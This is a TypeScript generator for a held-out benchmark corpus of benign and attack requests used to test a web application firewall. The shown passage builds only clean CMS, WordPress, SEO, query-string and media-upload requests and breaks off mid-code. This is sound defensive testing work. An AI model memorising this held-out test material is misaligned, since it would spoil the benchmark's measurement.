/**
 * Deterministic generator of the FOURTH held-out WAF API-profile corpora (session 5). Written before anyone tuned
 * on it, without looking at the WAF's code, and never edited to make a sample pass. Its domains differ from
 * generate.ts (generic), heldout.ts (support + shop), heldout2.ts (developer platform + CI) and heldout3.ts
 * (issue tracker, wiki, chat): four imaginary APIs behind one gateway:
 * - a headless CMS + marketing site ("Inkwell": Contentful-style rich-text documents, WordPress-style post HTML
 *   from the block editor with embeds, SEO fields and JSON-LD, slugs, media metadata and multipart uploads,
 *   Strapi-style `filters[…][$eq]` query strings, Drupal-style JSON:API, localized content, contact and
 *   newsletter forms, publish webhooks, a theme's custom CSS);
 * - a healthcare/fintech B2B API ("Ledgerline": FHIR-style patients with apostrophes and diacritics, claims with
 *   ICD-10/CPT codes and free-text clinical notes full of abbreviations, numbers, percentages and units,
 *   invoices and SEPA payments with IBANs and remittance text, merge-patch updates, NDJSON bulk imports, payment
 *   webhooks, CSV statement uploads);
 * - a Q&A / education platform ("Stackwise": questions and answers in markdown with fenced and inline code in
 *   many languages, LaTeX math, comments, quizzes with SQL and shell exercises, code submissions to a grader, a
 *   few security-course questions that quote classic payloads as teaching material — kind `qa-security`);
 * - an e-commerce search and reviews API ("Shopfront": search queries with operators, quotes and odd product
 *   names, filter/sort/facet query strings, reviews with emoji and SQL- and shell-sounding words, storefront
 *   GraphQL, NDJSON product feeds, cart merge-patches).
 * - `attacks-heldout4.json`: SQLi, NoSQL operators, template injection, command injection, path traversal, SSRF,
 *   XSS (also inside otherwise plausible editor HTML, rich-text JSON, markdown and LaTeX), prototype pollution and
 *   Log4Shell as they would be sent to these APIs: nested, in keys, in arrays, `\u` escaped, as JSON inside a
 *   string, base64 and percent-encoded inside JSON, GraphQL variables, NDJSON lines, forms, multipart parts,
 *   query strings, headers and cookies.
 *
 * The code fields of these APIs (what a user would list in `exclude_fields`) are {@link HELDOUT4_EXCLUDE_FIELDS}:
 * a grader submission's `source`, an exercise's `starterCode` and `solution`, the theme's `custom_css`. Rich text,
 * post HTML, question and answer markdown, clinical and accounting notes and reviews are deliberately NOT
 * excluded. No attack uses an excluded field.
 *
 * Run: `node bench/waf/corpus/heldout4.ts` (writes both files next to this script; same output every run).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** The fourth held-out APIs' code fields (grader submission source, exercise starter code and solution, theme CSS). */
export const HELDOUT4_EXCLUDE_FIELDS = [
  'body.source',
  'body.starterCode',
  'body.solution',
  'body.custom_css',
];

/** mulberry32 (same as generate.ts, another seed). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(0x4e1d_0404);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
/** The i-th element, cycling: every pool item is used at least once when a loop runs past its length. */
const nth = <T>(xs: readonly T[], i: number): T => xs[i % xs.length] as T;
const json = (v: unknown): string => JSON.stringify(v);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
/** Percent-encoding as a browser form does it (spaces as `+`). */
const form = (fields: Record<string, string>): string =>
  Object.entries(fields)
    .map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`)
    .join('&');
/** A query string as a browser builds it (`URLSearchParams`: spaces as `+`). */
const qs = (fields: readonly (readonly [string, string])[]): string =>
  fields.map(([k, v]) => `${enc(k)}=${enc(v).replace(/%20/g, '+')}`).join('&');
const hex = (n: number): string =>
  Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)] as string).join('');
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`;
const day = (): string =>
  `2026-${String(int(1, 11)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
/** JSON text with every non-alphanumeric ASCII character of string values written as a `\uXXXX` escape. */
const uescape = (v: unknown): string =>
  JSON.stringify(v).replace(/"((?:[^"\\]|\\.)*)"/g, (_m, s: string) => {
    const raw = JSON.parse(`"${s}"`) as string;
    const out = [...raw]
      .map((c) =>
        /[A-Za-z0-9 ]/.test(c) ? c : `\\u${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`,
      )
      .join('');
    return `"${out}"`;
  });
/** A multipart/form-data body (text parts only) and its content type. */
function multipart(
  parts: readonly { name: string; value: string; filename?: string; type?: string }[],
): [string, string] {
  const boundary = `----WebKitFormBoundary${hex(16)}`;
  const body = parts
    .map((p) => {
      const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename === undefined ? '' : `; filename="${p.filename}"`}`;
      const type = p.type === undefined ? '' : `\r\nContent-Type: ${p.type}`;
      return `--${boundary}\r\n${disp}${type}\r\n\r\n${p.value}\r\n`;
    })
    .join('');
  return [`multipart/form-data; boundary=${boundary}`, `${body}--${boundary}--\r\n`];
}

// ------------------------------------------------------------------------------------------------ headers

const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.104 Mobile Safari/537.36',
];
const SDKS = [
  'contentful-management.js/11.40.1 sdk; platform node.js/v22.11.0; os Linux',
  'python-requests/2.32.3',
  'ledgerline-java/3.8.0 (OpenJDK 21.0.5)',
  'Go-http-client/2.0',
  'axios/1.7.9',
  'okhttp/4.12.0',
  'Shopfront-iOS/5.12.0 (iPhone; iOS 18.1; Scale/3.00)',
  'Stackwise-Android/3.4.2 (Pixel 7; Android 15)',
  'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
  'HAPI-FHIR-Client/7.4.0 (FHIR Client; FHIR 4.0.1/R4; apache)',
];
const CURLS = ['curl/8.11.0', 'curl/8.5.0', 'HTTPie/3.2.4', 'PostmanRuntime/7.42.0', 'insomnia/10.2.0'];
const LANGS = [
  'en-US,en;q=0.9',
  'de-DE,de;q=0.9,en;q=0.8',
  'fr-FR,fr;q=0.9,en-US;q=0.7',
  'es-MX,es;q=0.9,en;q=0.8',
  'pt-BR,pt;q=0.9',
  'ja-JP,ja;q=0.9,en;q=0.7',
  'pl-PL,pl;q=0.9,en;q=0.6',
  'vi-VN,vi;q=0.9,en;q=0.7',
];
const SITES = [
  'https://admin.inkwell.example.com',
  'https://app.ledgerline.example.com',
  'https://stackwise.example.org',
  'https://www.shopfront.example.com',
];
const TOKEN =
  'eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJjbGllbnQtNDIiLCJzY29wZSI6ImFwaSJ9.c2lnbmF0dXJl';

/** Realistic request headers of one of the client kinds (`any`: browser, SDK or curl, drawn). */
function headers(
  ct: string | null,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): Record<string, string> {
  const kind = client === 'any' ? pick(['browser', 'browser', 'sdk', 'sdk', 'curl'] as const) : client;
  const h: Record<string, string> = {};
  if (kind === 'browser') {
    const site = pick(SITES);
    h['user-agent'] = pick(BROWSERS);
    h.accept = 'application/json, text/plain, */*';
    h['accept-language'] = pick(LANGS);
    h.origin = site;
    h.referer = `${site}/`;
    h.cookie = `sid=${hex(24)}`;
  } else if (kind === 'sdk') {
    h['user-agent'] = pick(SDKS);
    h.accept = 'application/json';
    h.authorization = `Bearer ${TOKEN}`;
    if (rnd() < 0.3) h['x-request-id'] = uuid();
  } else if (kind === 'hook') {
    h.accept = '*/*';
    h['user-agent'] = 'webhook-sender';
  } else {
    h['user-agent'] = pick(CURLS);
    h.accept = '*/*';
    h.authorization = `Bearer ${TOKEN}`;
  }
  if (ct !== null) h['content-type'] = ct;
  return { ...h, ...extra };
}

const clean: CorpusRequest[] = [];
function addClean(
  kind: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  client: 'browser' | 'sdk' | 'curl' | 'hook' | 'any' = 'any',
  extra: Record<string, string> = {},
): void {
  clean.push({ id: `f${clean.length + 1}`, kind, method, path, headers: headers(ct, client, extra), body });
}
const J = 'application/json';
const JU = 'application/json; charset=utf-8';
const FORM = 'application/x-www-form-urlencoded';
const MERGE = 'application/merge-patch+json';
const JSONAPI = 'application/vnd.api+json';
const FHIR = 'application/fhir+json';
const NDJSON = 'application/x-ndjson';

// ================================================================================= (1) headless CMS + marketing

const HEADLINES = [
  'Spring Collection 2026: Lighter, Brighter, Bolder',
  'How We Cut Checkout Time by 38%',
  "Customer Story: Müller & Söhne's Move to the Cloud",
  "What's New in Release 4.2 — Drag & Drop, Dark Mode, and More",
  '5 Ways to Select the Right Plan for Your Team',
  'Black Friday: Up to 50% Off Everything (Yes, Everything)',
  'Behind the Scenes: Our Union Square Pop-Up Store',
  'The Script Is Flipped: Why Video Marketing Wins in 2026',
  "Q&A with Our CTO: 'Drop the Legacy, Keep the Data'",
  'Webinar Recap: From /etc/hosts to Zero Trust',
  "L'Oréal × Inkwell: Beauty Content at Scale",
  'Press Release: Inkwell Raises $40M Series B',
];
const COPY = [
  'Our new spring range is built for long days outside: breathable fabrics, recycled materials and a fit that moves with you.',
  'We rebuilt the checkout from scratch. The result? 38% fewer steps, 2.1 s faster on mobile and a conversion lift of 12.4% in the first month.',
  'Select any plan today and get the first 3 months at 20% off — no credit card required, cancel anytime.',
  'Drop by our pop-up store at 14 Union Square (Mon–Sat, 10 am – 7 pm) and try the whole collection in person.',
  'Update your app to version 4.2 to get drag & drop uploads, dark mode and a faster search.',
  '"It just works," says Jeanne d\'Arcy, Head of Digital at Maison Lefèvre. "We shipped 3 sites in 6 weeks."',
  'Pricing starts at €29/month (excl. VAT). Enterprise plans include SSO, audit logs and a 99.95% uptime SLA.',
  'Delete the clutter: the new media library groups duplicates, flags images > 5 MB and suggests alt text.',
  'From the archives: how our first store on Rue de l’Université became a community hub.',
  'Join us on 12/03 at 4 pm CET for a live demo — bring your questions (and your coffee ☕).',
  'Available in 24 languages, from Português to 日本語, with right-to-left support for العربية and עברית.',
  'Terms & conditions apply. Offer valid while stocks last; see /legal/promotions for details.',
];
const SLUGS = [
  'spring-collection-2026',
  'how-we-cut-checkout-time-by-38',
  'customer-story-muller-sohne',
  'whats-new-in-release-4-2',
  'select-the-right-plan',
  'black-friday-2026',
  'union-square-pop-up',
  'video-marketing-2026',
  'qa-with-our-cto',
  'from-etc-hosts-to-zero-trust',
];
const MEDIA_TITLES = [
  ['hero-spring-2026.jpg', 'Model in a yellow raincoat on a rooftop at sunset', 'image/jpeg'],
  ['team_photo (final).png', 'The Inkwell team at the 2026 offsite in Lisbon', 'image/png'],
  ['checkout-flow-v2.svg', 'Diagram: cart → address → payment → confirmation', 'image/svg+xml'],
  ['Preisliste_2026_Ü.pdf', 'Preisliste für Händler (gültig ab 01.01.2026)', 'application/pdf'],
  ['demo-recording-12-03.mp4', 'Live demo recording, 47 min', 'video/mp4'],
  ['logo@2x.webp', 'Logo, white on transparent, for dark backgrounds', 'image/webp'],
  ['café-de-l’église.jpg', "Café de l'Église, our Lyon partner store", 'image/jpeg'],
  [
    'Q3 results - 50% growth.xlsx',
    'Quarterly figures for the investor page',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ],
] as const;
const LOCALES: readonly (readonly [string, string, string])[] = [
  [
    'de-DE',
    'Frühjahrskollektion 2026: Leichter, heller, mutiger',
    'Unsere neue Frühjahrskollektion ist für lange Tage im Freien gemacht – atmungsaktiv, aus recycelten Materialien & mit 20 % Rabatt bis 31.03.',
  ],
  [
    'fr-FR',
    'Collection printemps 2026 : plus légère, plus lumineuse',
    "Découvrez notre nouvelle collection — tissus respirants, matières recyclées et -20 % jusqu'au 31/03. C'est l'été avant l'heure !",
  ],
  [
    'es-ES',
    'Colección primavera 2026: más ligera, más brillante',
    '¿Buscas algo nuevo? Nuestra colección de primavera está hecha para días largos al aire libre. ¡Envío gratis desde 50 €!',
  ],
  [
    'pt-BR',
    'Coleção primavera 2026: mais leve, mais brilhante',
    'Peças feitas para dias longos ao ar livre — tecidos respiráveis e 20% de desconto até 31/03. Não perca!',
  ],
  [
    'ja-JP',
    '2026年春コレクション：より軽く、より明るく',
    '新しい春のコレクションは、通気性のある素材とリサイクル素材を使用しています。3月31日まで20%オフ！',
  ],
  [
    'pl-PL',
    'Kolekcja wiosna 2026: lżejsza, jaśniejsza, odważniejsza',
    'Nowa kolekcja wiosenna — oddychające tkaniny, materiały z recyklingu i 20% zniżki do 31.03. Zamów już dziś!',
  ],
  [
    'tr-TR',
    '2026 İlkbahar Koleksiyonu: Daha hafif, daha parlak',
    'Yeni ilkbahar koleksiyonumuz uzun günler için tasarlandı; 31 Mart’a kadar %20 indirim. Şimdi keşfet!',
  ],
  [
    'ar-SA',
    'مجموعة ربيع 2026: أخف وأكثر إشراقًا',
    'مجموعتنا الجديدة مصممة للأيام الطويلة في الخارج — خصم 20% حتى 31 مارس.',
  ],
  [
    'vi-VN',
    'Bộ sưu tập Xuân 2026: Nhẹ hơn, sáng hơn',
    'Bộ sưu tập mới với chất liệu thoáng khí, tái chế và giảm 20% đến hết 31/03. Mua ngay!',
  ],
  [
    'ru-RU',
    'Весенняя коллекция 2026: легче, ярче, смелее',
    'Новая коллекция — дышащие ткани, переработанные материалы и скидка 20% до 31.03. Заказывайте!',
  ],
];

/** A Contentful-style rich-text text node. */
const tnode = (value: string, marks: readonly string[] = []): unknown => ({
  nodeType: 'text',
  value,
  marks: marks.map((type) => ({ type })),
  data: {},
});
/** A Contentful-style rich-text document from a headline and paragraphs (with a link, a list and an asset). */
function richDoc(i: number): unknown {
  const content: unknown[] = [
    { nodeType: 'heading-2', data: {}, content: [tnode(nth(HEADLINES, i))] },
    {
      nodeType: 'paragraph',
      data: {},
      content: [
        tnode(nth(COPY, i)),
        tnode(' Read more in our ', []),
        {
          nodeType: 'hyperlink',
          data: {
            uri: `https://www.inkwell.example.com/blog/${nth(SLUGS, i + 1)}?utm_source=newsletter&utm_medium=email&utm_campaign=spring%2026`,
          },
          content: [tnode('launch post')],
        },
        tnode('.'),
      ],
    },
  ];
  if (i % 2 === 0)
    content.push({
      nodeType: 'unordered-list',
      data: {},
      content: [nth(COPY, i + 3), nth(COPY, i + 7)].map((t) => ({
        nodeType: 'list-item',
        data: {},
        content: [{ nodeType: 'paragraph', data: {}, content: [tnode(t)] }],
      })),
    });
  if (i % 3 === 0)
    content.push({
      nodeType: 'embedded-asset-block',
      data: { target: { sys: { id: hex(22).slice(0, 22), type: 'Link', linkType: 'Asset' } } },
      content: [],
    });
  if (i % 4 === 1)
    content.push({
      nodeType: 'blockquote',
      data: {},
      content: [{ nodeType: 'paragraph', data: {}, content: [tnode(nth(COPY, 5), ['italic'])] }],
    });
  content.push({ nodeType: 'paragraph', data: {}, content: [tnode(nth(COPY, i + 9), ['bold'])] });
  return { nodeType: 'document', data: {}, content };
}

/** Block-editor (Gutenberg) HTML fragments as a WordPress REST client sends them. */
const WP_BLOCKS = [
  (i: number) => `<!-- wp:paragraph -->\n<p>${nth(COPY, i)}</p>\n<!-- /wp:paragraph -->`,
  (i: number) =>
    `<!-- wp:heading {"level":3} -->\n<h3 class="wp-block-heading" id="h-${nth(SLUGS, i)}">${nth(HEADLINES, i)}</h3>\n<!-- /wp:heading -->`,
  (i: number) =>
    `<!-- wp:image {"id":${4000 + i},"sizeSlug":"large","linkDestination":"none"} -->\n<figure class="wp-block-image size-large"><img src="https://cdn.inkwell.example.com/wp-content/uploads/2026/03/${nth(MEDIA_TITLES, i)[0].replace(/ /g, '-')}" alt="${nth(MEDIA_TITLES, i)[1].replace(/"/g, '&quot;')}" class="wp-image-${4000 + i}" loading="lazy" width="1200" height="800"/><figcaption class="wp-element-caption">Photo: © 2026 Inkwell</figcaption></figure>\n<!-- /wp:image -->`,
  () =>
    `<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube","responsive":true} -->\n<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n</div></figure>\n<!-- /wp:embed -->`,
  () =>
    `<!-- wp:html -->\n<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e&amp;title=0&amp;byline=0" width="640" height="360" frameborder="0" allow="autoplay; fullscreen; picture-in-picture" allowfullscreen title="Product tour"></iframe>\n<!-- /wp:html -->`,
  (i: number) =>
    `<!-- wp:list -->\n<ul class="wp-block-list"><li><strong>Free shipping</strong> on orders over $50</li><li>30-day returns &amp; exchanges</li><li>${nth(COPY, i + 2)}</li></ul>\n<!-- /wp:list -->`,
  () =>
    `<!-- wp:table -->\n<figure class="wp-block-table"><table><thead><tr><th>Plan</th><th>Price</th><th>Seats</th></tr></thead><tbody><tr><td>Starter</td><td>€29/mo</td><td>1–5</td></tr><tr><td>Team</td><td>€99/mo</td><td>6–25</td></tr><tr><td>Enterprise</td><td>Contact us</td><td>&gt; 25</td></tr></tbody></table></figure>\n<!-- /wp:table -->`,
  (i: number) =>
    `<!-- wp:quote -->\n<blockquote class="wp-block-quote"><p>${nth(COPY, 5)}</p><cite>— ${nth(['Jeanne d’Arcy, Maison Lefèvre', "Seán O'Connor, Dublin Bikes", 'Zoë Østergaard, Nordlys'], i)}</cite></blockquote>\n<!-- /wp:quote -->`,
  () =>
    `<!-- wp:buttons -->\n<div class="wp-block-buttons"><div class="wp-block-button"><a class="wp-block-button__link wp-element-button" href="https://www.inkwell.example.com/pricing?plan=team&amp;ref=blog" target="_blank" rel="noreferrer noopener">Start your free trial →</a></div></div>\n<!-- /wp:buttons -->`,
  () =>
    `<!-- wp:paragraph {"style":{"color":{"background":"#fff8e1"}}} -->\n<p class="has-background" style="background-color:#fff8e1;padding:12px 16px;border-left:4px solid #ffb300"><em>Note:</em> prices shown exclude VAT (19% in Germany, 20% in France &amp; the UK).</p>\n<!-- /wp:paragraph -->`,
  () =>
    `<!-- wp:embed {"url":"https://twitter.com/inkwell/status/1861234567890123456","type":"rich","providerNameSlug":"twitter"} -->\n<figure class="wp-block-embed is-type-rich is-provider-twitter wp-block-embed-twitter"><div class="wp-block-embed__wrapper">\nhttps://twitter.com/inkwell/status/1861234567890123456\n</div></figure>\n<!-- /wp:embed -->`,
  () =>
    `<!-- wp:code -->\n<pre class="wp-block-code"><code>npm install @inkwell/rich-text-renderer\nimport { render } from '@inkwell/rich-text-renderer';</code></pre>\n<!-- /wp:code -->`,
];
/** Classic-editor / TinyMCE HTML (what an older WYSIWYG produces). */
const TINYMCE = [
  '<p><span style="font-family: Arial, sans-serif; font-size: 14pt; color: #333333;">Dear customers,</span></p>\n<p>Our stores will be closed on <strong>24/12</strong> and <strong>25/12</strong>. Online orders placed after 12:00 on 23/12 ship on 27/12.</p>\n<p>&nbsp;</p>\n<p>Happy holidays! 🎄</p>',
  '<h2 style="text-align: center;">Size guide</h2>\n<table style="border-collapse: collapse; width: 100%;" border="1"><tbody><tr><td>EU 38</td><td>UK 5</td><td>US 7.5</td></tr><tr><td>EU 42</td><td>UK 8</td><td>US 10</td></tr></tbody></table>\n<p><em>Tip:</em> if you\'re between sizes, select the larger one.</p>',
  '<p>Watch the video below:</p>\n<p><iframe title="YouTube video player" src="https://www.youtube-nocookie.com/embed/M7lc1UVf-VE?si=Xz3&amp;start=42" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>',
  '<p><a href="mailto:press@inkwell.example.com?subject=Press%20inquiry">press@inkwell.example.com</a> | <a href="tel:+4930123456">+49 30 123456</a></p>\n<p><img style="float: right; margin: 0 0 10px 10px;" src="/media/uploads/ceo-portrait.jpg" alt="Portrait of our CEO, Hélène Dubois-O\'Neill" width="240" height="320" /></p>',
  '<ol>\n<li>Log in to your account</li>\n<li>Go to <strong>Settings → Billing</strong></li>\n<li>Click "Update payment method" &amp; follow the steps</li>\n</ol>\n<p><span style="color: #999999;"><small>Last updated: 03/11/2026</small></span></p>',
  '<div class="callout callout--warning" data-type="warning"><p><strong>Heads-up:</strong> the old /api/v1 endpoints will be removed on 2026-06-30. Please migrate to /api/v2 (see the <a href="/docs/migration" target="_blank" rel="noopener">migration guide</a>).</p></div>',
];
const CUSTOM_CSS = [
  '.hero{background:linear-gradient(135deg,#ff7e5f 0%,#feb47b 100%);min-height:60vh}\n.hero h1{font:700 clamp(2rem,5vw,4rem)/1.1 "Inter",sans-serif}\n@media (max-width:600px){.nav{display:none}}',
  'body.page-id-42 .wp-block-button__link{border-radius:999px!important}\na[href^="http"]:not([href*="inkwell"])::after{content:" ↗"}\n.promo-banner{position:sticky;top:0;z-index:9999}',
  '@import url("https://fonts.googleapis.com/css2?family=Playfair+Display:wght@700&display=swap");\n:root{--brand:#0a7d5a;--radius:8px}\n.card:hover{transform:translateY(-2px);box-shadow:0 4px 12px rgba(0,0,0,.15)}',
  '/* Black Friday overrides */\n.price--sale{color:#d32f2f;font-weight:700}\n.price--sale::before{content:"-50% "}\nselect, input[type="search"]{font-size:16px}',
];

// Contentful entries with rich text (9)
for (let i = 0; i < 9; i++) {
  addClean(
    'cms-richtext',
    'PUT',
    `/cms/v1/spaces/k8x2m9/environments/master/entries/${hex(22)}`,
    'application/vnd.contentful.management.v1+json',
    json({
      fields: {
        title: { 'en-US': nth(HEADLINES, i) },
        slug: { 'en-US': nth(SLUGS, i) },
        body: { 'en-US': richDoc(i) },
        author: { 'en-US': { sys: { type: 'Link', linkType: 'Entry', id: hex(22) } } },
        tags: {
          'en-US': nth(
            [
              ['spring', 'fashion'],
              ['engineering', 'performance'],
              ['customers'],
              ['release-notes', 'product'],
            ],
            i,
          ),
        },
        publishDate: { 'en-US': `${day()}T09:00:00.000+01:00` },
      },
    }),
    i % 3 === 0 ? 'browser' : 'sdk',
    { 'x-contentful-version': String(int(1, 40)), 'x-contentful-content-type': 'blogPost' },
  );
}

// WordPress posts from the block editor and pages from a classic WYSIWYG (16)
for (let i = 0; i < 16; i++) {
  if (i % 4 === 3) {
    addClean(
      'cms-html',
      'POST',
      `/wp-json/wp/v2/pages/${int(10, 900)}`,
      J,
      json({ title: nth(HEADLINES, i), content: nth(TINYMCE, i), status: 'publish', template: '' }),
      'browser',
      { 'x-wp-nonce': hex(10) },
    );
    continue;
  }
  const blocks = [0, 1, 2, 3].map((n) => nth(WP_BLOCKS, i * 3 + n * 2)(i + n)).join('\n\n');
  addClean(
    'cms-html',
    i % 2 === 0 ? 'POST' : 'PUT',
    i % 2 === 0 ? '/wp-json/wp/v2/posts' : `/wp-json/wp/v2/posts/${int(100, 9000)}`,
    J,
    json({
      title: nth(HEADLINES, i),
      slug: nth(SLUGS, i),
      status: nth(['draft', 'publish', 'future', 'pending'], i),
      content: blocks,
      excerpt: nth(COPY, i + 4),
      categories: [int(1, 30)],
      tags: [int(1, 200), int(1, 200)],
      featured_media: int(100, 9999),
      meta: { _yoast_wpseo_focuskw: nth(['spring collection', 'checkout speed', 'pricing plans'], i) },
    }),
    'browser',
    { 'x-wp-nonce': hex(10) },
  );
}

// SEO fields (8)
for (let i = 0; i < 8; i++) {
  const title = nth(HEADLINES, i);
  addClean(
    'cms-seo',
    'PATCH',
    `/api/pages/${int(1, 400)}/seo`,
    J,
    json({
      metaTitle: `${title} | Inkwell`,
      metaDescription: nth(COPY, i + 1).slice(0, 155),
      canonicalURL: `https://www.inkwell.example.com/${nth(['en', 'de', 'fr'], i)}/blog/${nth(SLUGS, i)}`,
      metaRobots: nth(
        ['index, follow', 'noindex, nofollow', 'index, follow, max-image-preview:large', 'noindex, follow'],
        i,
      ),
      keywords: nth(
        [
          'spring, fashion, recycled',
          'checkout, conversion, ux',
          'select plan, pricing, SaaS',
          'drop shipping, union, wholesale',
        ],
        i,
      ),
      metaSocial: [
        { socialNetwork: 'Facebook', title, description: nth(COPY, i).slice(0, 100), image: int(100, 999) },
      ],
      structuredData: {
        '@context': 'https://schema.org',
        '@type': nth(['Article', 'Product', 'FAQPage', 'Organization'], i),
        headline: title,
        author: { '@type': 'Person', name: nth(["Seán O'Connor", 'Zoë Østergaard', 'Hélène Dubois'], i) },
        datePublished: day(),
      },
      hreflang: [
        { lang: 'de', href: `https://www.inkwell.example.com/de/blog/${nth(SLUGS, i)}` },
        { lang: 'x-default', href: `https://www.inkwell.example.com/blog/${nth(SLUGS, i)}` },
      ],
    }),
    'browser',
  );
}

// Strapi-style REST reads with filters, populate and locale (12)
const STRAPI_QS: readonly (readonly (readonly [string, string])[])[] = [
  [
    ['filters[slug][$eq]', 'spring-collection-2026'],
    ['populate', '*'],
    ['locale', 'de'],
  ],
  [
    ['filters[title][$containsi]', 'black friday'],
    ['sort[0]', 'publishedAt:desc'],
    ['pagination[page]', '1'],
    ['pagination[pageSize]', '10'],
  ],
  [
    ['filters[$or][0][category][slug][$eq]', 'news'],
    ['filters[$or][1][category][slug][$eq]', 'press'],
    ['populate[0]', 'cover'],
    ['populate[1]', 'author.avatar'],
  ],
  [
    ['filters[publishedAt][$gte]', '2026-01-01T00:00:00.000Z'],
    ['filters[publishedAt][$lt]', '2026-04-01T00:00:00.000Z'],
    ['fields[0]', 'title'],
    ['fields[1]', 'slug'],
  ],
  [
    ['filters[tags][name][$in][0]', 'select'],
    ['filters[tags][name][$in][1]', 'union'],
    ['publicationState', 'preview'],
  ],
  [
    ['filters[author][name][$eq]', "Seán O'Connor"],
    ['populate', 'seo,cover'],
    ['locale', 'all'],
  ],
  [
    ['filters[price][$between][0]', '10'],
    ['filters[price][$between][1]', '99.99'],
    ['sort', 'price:asc'],
  ],
  [
    ['filters[$and][0][title][$notNull]', 'true'],
    ['filters[$and][1][locale][$ne]', 'en'],
    ['pagination[start]', '0'],
    ['pagination[limit]', '-1'],
  ],
];
for (let i = 0; i < 12; i++) {
  addClean(
    'cms-query',
    'GET',
    `/api/${nth(['articles', 'pages', 'products', 'landing-pages'], i)}?${qs(nth(STRAPI_QS, i))}`,
    null,
    '',
    i % 2 === 0 ? 'browser' : 'sdk',
  );
}
// WordPress and Contentful reads with query strings (8)
const WP_READS = [
  '/wp-json/wp/v2/posts?search=union%20square&per_page=10&_embed=1&orderby=date&order=desc',
  '/wp-json/wp/v2/posts?categories=12,14&tags_exclude=99&status=publish&_fields=id,title,link',
  '/wp-json/wp/v2/media?media_type=image&mime_type=image%2Fjpeg&search=caf%C3%A9',
  '/cms/v1/spaces/k8x2m9/entries?content_type=blogPost&fields.slug=black-friday-2026&include=2&locale=*',
  '/cms/v1/spaces/k8x2m9/entries?content_type=product&fields.price%5Blte%5D=100&order=-sys.updatedAt&select=fields.title,fields.price',
  '/cms/v1/spaces/k8x2m9/entries?query=drop%20shipping&content_type=faq&limit=20&skip=40',
  '/wp-json/wp/v2/pages?slug=terms-and-conditions&_embed',
  '/wp-json/wp/v2/search?search=%22select%20plan%22&type=post&subtype=any',
];
for (const p of WP_READS) addClean('cms-query', 'GET', p, null, '', 'any');

// Media metadata (6)
for (let i = 0; i < 6; i++) {
  const [file, desc, mime] = nth(MEDIA_TITLES, i);
  addClean(
    'cms-media',
    'PUT',
    `/cms/v1/spaces/k8x2m9/environments/master/assets/${hex(22)}`,
    'application/vnd.contentful.management.v1+json',
    json({
      fields: {
        title: { 'en-US': file.replace(/\.[a-z0-9]+$/, ''), 'de-DE': file.replace(/\.[a-z0-9]+$/, '') },
        description: { 'en-US': desc },
        file: {
          'en-US': {
            fileName: file,
            contentType: mime,
            upload: `https://upload.inkwell.example.com/spaces/k8x2m9/uploads/${hex(20)}`,
            details: { size: int(20000, 9000000), image: { width: 2400, height: 1600 } },
          },
        },
        focalPoint: { 'en-US': { x: int(0, 2400), y: int(0, 1600) } },
        credits: {
          'en-US': nth(
            ['© 2026 Inkwell / Photo: Anaïs Lebœuf', 'Unsplash (CC0)', 'Getty Images — editorial use only'],
            i,
          ),
        },
      },
    }),
    'sdk',
    { 'x-contentful-version': String(int(1, 9)) },
  );
}
// Multipart media uploads (6)
for (let i = 0; i < 6; i++) {
  const [file, desc, mime] = nth(MEDIA_TITLES, i);
  const value =
    mime === 'image/svg+xml'
      ? '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><rect width="120" height="40" rx="6" fill="#0a7d5a"/><text x="60" y="25" font-family="Inter" font-size="14" fill="#fff" text-anchor="middle">Cart → Pay</text></svg>'
      : mime === 'application/pdf'
        ? '%PDF-1.7\n%âãÏÓ\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'
        : `RIFF${hex(8)}WEBPVP8 ${hex(24)}`;
  const [ct, body] = multipart([
    { name: 'file', filename: file, type: mime, value },
    { name: 'alternativeText', value: desc },
    {
      name: 'caption',
